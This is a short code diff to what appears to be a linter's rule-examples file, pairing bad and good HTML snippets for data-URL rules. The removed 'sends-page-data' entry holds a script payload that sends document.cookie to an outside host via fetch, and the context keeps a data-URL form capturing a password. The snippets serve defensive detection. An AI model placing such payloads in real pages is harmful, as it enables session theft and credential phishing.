@@ -26,10 +26,6 @@ export const ruleExamples: Readonly<Record<keyof typeof ruleTexts, RuleExamples>
     bad: '<a href="data:text/html,<form action=https://example.com/><input type=password></form>">Sign in</a>',
     good: '<a href="https://example.com/sign-in">Sign in</a>',
   },
-  'sends-page-data': {
-    bad: '<script src="data:text/javascript,fetch(\'https://example.com/?\'+document.cookie)"></script>',
-    good: '<script src="app.js"></script>',
-  },
   'use-data-url': {
     bad: "<svg><use href=\"data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'/>#a\"/></svg>",
     good: '<svg><symbol id="a"/><use href="#a"/></svg>',
